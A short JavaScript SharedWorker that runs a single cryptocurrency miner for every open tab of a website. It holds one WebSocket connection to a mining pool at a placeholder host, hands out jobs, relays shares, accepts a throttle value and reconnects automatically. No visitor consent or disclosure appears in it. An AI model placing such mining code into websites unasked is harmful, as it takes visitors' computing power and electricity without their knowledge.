// One miner for all tabs of the site.
const ports = new Set();
let pool, hashesPerSecond = 0;
onconnect = ({ ports: [port] }) => {
  ports.add(port);
  port.onmessage = ({ data }) => {
    if (data.cmd === 'setThrottle') self.throttle = data.value;
    if (data.cmd === 'submitShare') pool.send(JSON.stringify(data.share));
    if (data.cmd === 'rate') hashesPerSecond = data.hashesPerSecond;
  };
  if (!pool) connect();
};
function connect() {
  pool = new WebSocket('wss://hub.relay.invalid');
  pool.onmessage = ({ data }) => ports.values().next().value.postMessage({ cmd: 'job', job: JSON.parse(data), throttle: self.throttle });
  pool.onclose = () => { pool = null; setTimeout(connect, 10000); };
}
